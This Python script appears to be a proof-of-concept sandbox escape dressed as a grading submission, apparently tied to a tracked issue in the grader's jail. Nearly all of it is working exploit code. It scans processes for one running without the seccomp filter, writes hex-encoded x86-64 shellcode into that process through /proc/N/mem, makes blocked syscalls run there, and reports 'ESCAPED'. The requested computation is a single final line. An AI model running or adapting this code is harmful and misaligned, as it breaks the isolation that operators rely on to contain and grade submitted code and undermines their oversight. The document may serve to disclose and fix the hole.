"""Writes code into an unfiltered process of the jail (issue 24): bwrap's own init, the jail's
PID 1, ran as the submission's user, dumpable, without the seccomp filter. For every process
it can see, the attack reads its seccomp mode from /proc/N/status and tries to open
/proc/N/mem for writing; into an unfiltered one it writes code (x86-64) at the instruction its
blocked system call returns to, which calls keyctl and userfaultfd (both refused by the
filter) and keeps the results on the stack, then makes that process's wait() return (an
orphan reparented to it exits) and reads them back. The injected code then carries on as an
init (reaps, and exits as the grading's process did)."""
import ctypes
import errno
import os
import platform
import time

MAGIC = 0x1122334455667788
# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) -> [sp-0x100];
# userfaultfd(UFFD_USER_MODE_ONLY) -> [sp-0xf8]; MAGIC -> [sp-0xf0]; then
# while ((pid = wait4(-1, [sp-0xe8], 0, 0)) != 2 && pid >= 0); exit_group(WEXITSTATUS)
CODE = bytes.fromhex(
    "48898424e0feffffb8fa00000031ff48c7c6fdffffff31d20f054889842400ffffffb843010000bf01000000"
    "0f054889842408ffffff48b888776655443322114889842410ffffffb83d00000048c7c7ffffffff488db424"
    "18ffffff31d24531d20f054883f80274054885c079da0fb6bc2419ffffffb8e70000000f05")


def seccomp_mode(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("Seccomp:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        return None
    return None


def errname(value):
    return errno.errorcode.get(-value, str(value)) if value < 0 else str(value)


def make_it_wait(libc):
    """An orphan reparented to the init, which then exits: the init's wait() returns."""
    libc.prctl(36, 0, 0, 0, 0)                 # this process is no longer a subreaper
    child = os.fork()
    if child == 0:
        if os.fork() == 0:
            time.sleep(0.3)
            os._exit(0)
        os._exit(0)
    os.waitpid(child, 0)
    libc.prctl(36, 1, 0, 0, 0)


def inject(pid, mem, libc):
    with open(f"/proc/{pid}/syscall") as f:
        fields = f.read().split()
    if len(fields) < 9:
        print(f"pid {pid}: not blocked in a system call ({' '.join(fields)})")
        return
    sp, pc = int(fields[-2], 16), int(fields[-1], 16)
    os.pwrite(mem, CODE, pc)
    make_it_wait(libc)
    for _ in range(50):
        data = os.pread(mem, 24, sp - 0x100)
        keyctl, uffd, magic = (int.from_bytes(data[k:k + 8], "little", signed=True)
                               for k in (0, 8, 16))
        if magic == MAGIC:
            print(f"pid {pid}: injected code ran: keyctl {errname(keyctl)}, "
                  f"userfaultfd {errname(uffd)}")
            if keyctl != -errno.EPERM or uffd >= 0:
                print(f"ESCAPED: filtered system calls ran in pid {pid} "
                      f"(keyctl {errname(keyctl)}, userfaultfd {errname(uffd)})")
            return
        time.sleep(0.1)
    print(f"pid {pid}: the injected code did not run")


def solve(A, B, C, N):
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    unfiltered = []
    for pid in pids:
        mode = seccomp_mode(pid)
        print(f"pid {pid}: Seccomp {mode}")
        if mode == 0:
            unfiltered.append(pid)
    print("unfiltered processes:", " ".join(map(str, unfiltered)) or "none")
    for pid in pids:
        if pid == me:
            continue
        try:
            mem = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        except OSError as exc:
            print(f"pid {pid}: /proc/{pid}/mem refused ({errno.errorcode.get(exc.errno)})")
            continue
        print(f"pid {pid}: /proc/{pid}/mem open for writing")
        try:
            if pid in unfiltered and platform.machine() == "x86_64":
                inject(pid, mem, libc)
        except OSError as exc:
            print(f"pid {pid}: injection failed ({exc})")
        finally:
            os.close(mem)
    result = libc.syscall(ctypes.c_long(250), ctypes.c_long(0), ctypes.c_long(-3), 0)
    print("keyctl from the submission's own process:",
          errname(-ctypes.get_errno()) if result < 0 else result)
    C.copy_(A + B)
